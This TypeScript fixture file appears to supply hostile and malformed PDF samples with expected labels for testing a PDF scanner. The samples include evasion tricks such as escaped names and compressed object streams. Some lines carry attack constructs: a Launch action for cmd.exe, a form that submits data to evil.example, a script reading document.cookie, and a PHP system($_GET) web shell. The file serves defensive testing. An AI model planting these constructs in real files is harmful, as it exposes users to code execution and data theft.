import { deflateSync } from "node:zlib";

// A corpus of small PDFs, each built the way a hostile one is: the active part
// in plain view, hidden behind #xx escapes in its names, or inside a
// compressed object stream; and benign PDFs of the kinds scanners and
// "print to PDF" make.
export const pdf = (...objects: string[]) => Buffer.from(`%PDF-1.7\n%\xe2\xe3\xcf\xd3\n${objects.join("\n")}\ntrailer<</Root 1 0 R>>\n%%EOF\n`, "latin1");
export const stream = (id: number, dictionary: string, payload: Buffer) =>
  Buffer.concat([Buffer.from(`${id} 0 obj<<${dictionary}/Length ${payload.length}>>stream\n`, "latin1"), payload, Buffer.from("\nendstream endobj", "latin1")]);
export const withStreams = (head: string, ...streams: Buffer[]) =>
  Buffer.concat([Buffer.from(`%PDF-1.7\n%\xe2\xe3\xcf\xd3\n${head}\n`, "latin1"), ...streams.flatMap((s) => [s, Buffer.from("\n")]), Buffer.from("trailer<</Root 1 0 R>>\n%%EOF\n")]);
export const objectStream = (objects: string, filter = "/Filter/FlateDecode") =>
  stream(5, `/Type/ObjStm/N 1/First 4${filter}`, filter.includes("Flate") ? deflateSync(Buffer.from(`9 0 ${objects}`)) : Buffer.from(`9 0 ${objects}`));
export const CATALOG = "1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj";
export const PAGE = "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>endobj";

export const HOSTILE_PDFS: [string, Buffer, string][] = [
  ["JavaScript run when opened", pdf("1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj"), "ACTIVE_CONTENT"],
  ["JavaScript behind #xx escapes", pdf("1 0 obj<</Type/Catalog/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>>>endobj"), "ACTIVE_CONTENT"],
  ["JavaScript in the document's name tree", pdf("1 0 obj<</Type/Catalog/Names<</JavaScript 6 0 R>>>>endobj"), "ACTIVE_CONTENT"],
  ["a launch action (run a program)", pdf(CATALOG, "3 0 obj<</Type/Annot/Subtype/Link/A<</S/Launch/F(cmd.exe)>>>>endobj"), "ACTIVE_CONTENT"],
  ["a page's additional actions", pdf(CATALOG, "3 0 obj<</Type/Page/AA<</O 7 0 R>>>>endobj"), "ACTIVE_CONTENT"],
  ["an embedded file", pdf("1 0 obj<</Type/Catalog/Names<</EmbeddedFiles 8 0 R>>>>endobj", "8 0 obj<</Type/EmbeddedFile>>endobj"), "ACTIVE_CONTENT"],
  ["a file attachment annotation", pdf(CATALOG, "3 0 obj<</Type/Annot/Subtype/FileAttachment/FS<</EF<</F 9 0 R>>/Type/Embedded#46ile>>>>endobj"), "ACTIVE_CONTENT"],
  ["rich media (Flash)", pdf(CATALOG, "3 0 obj<</Type/Annot/Subtype/RichMedia>>endobj"), "ACTIVE_CONTENT"],
  ["an XFA form", pdf("1 0 obj<</Type/Catalog/AcroForm<</XFA 9 0 R>>>>endobj"), "ACTIVE_CONTENT"],
  ["a form that submits itself", pdf(CATALOG, "3 0 obj<</S/SubmitForm/F(https://evil.example/collect)>>endobj"), "ACTIVE_CONTENT"],
  ["a form that imports data", pdf(CATALOG, "3 0 obj<</S/ImportData/F(data.fdf)>>endobj"), "ACTIVE_CONTENT"],
  ["a link that opens another PDF", pdf(CATALOG, "3 0 obj<</S/GoToR/F(other.pdf)>>endobj"), "ACTIVE_CONTENT"],
  ["a sound action", pdf(CATALOG, "3 0 obj<</S/Sound/Sound 9 0 R>>endobj"), "ACTIVE_CONTENT"],
  ["JavaScript hidden in a compressed object stream", withStreams(CATALOG, objectStream("<</S/JavaScript/JS(app.alert(1))>>")), "ACTIVE_CONTENT"],
  ["a launch action hidden in an object stream, escaped", withStreams(CATALOG, objectStream("<</S/L#61unch/F(cmd.exe)>>")), "ACTIVE_CONTENT"],
  ["an object stream whose own type is escaped", withStreams(CATALOG, stream(5, "/Type/Obj#53tm/N 1/First 4/Filter/FlateDecode", deflateSync(Buffer.from("9 0 <</JS(x)>>")))), "ACTIVE_CONTENT"],
  ["an object stream in a filter that is not read (LZW)", withStreams(CATALOG, objectStream("<</S/JavaScript/JS(x)>>", "/Filter/LZWDecode")), "UNREADABLE"],
  ["an object stream that does not inflate", withStreams(CATALOG, stream(5, "/Type/ObjStm/N 1/First 4/Filter/FlateDecode", Buffer.from("not zlib data"))), "UNREADABLE"],
  ["an encrypted PDF (its streams cannot be read)", Buffer.from("%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R/Encrypt 9 0 R>>\n%%EOF\n"), "ENCRYPTED"],
  ["an HTML page in a PDF comment (a PDF/HTML polyglot)", pdf("%<html><body><script>alert(document.cookie)</script></body></html>", CATALOG), "MARKUP"],
  ["an SVG with a script in a PDF string", pdf(CATALOG, "3 0 obj<</Title(<svg onload=alert(1)>)>>endobj"), "MARKUP"],
  ["a javascript: address in a link", pdf(CATALOG, "3 0 obj<</Type/Annot/Subtype/Link/A<</S/URI/URI(javascript:alert(1))>>>>endobj"), "MARKUP"],
  ["a PHP tag", pdf(CATALOG, "%<?php system($_GET['c']); ?>"), "MARKUP"],
  ["an unterminated stream", Buffer.from("%PDF-1.7\n1 0 obj<</Length 5>>stream\nabcde\n%%EOF\n"), "UNREADABLE"],
];

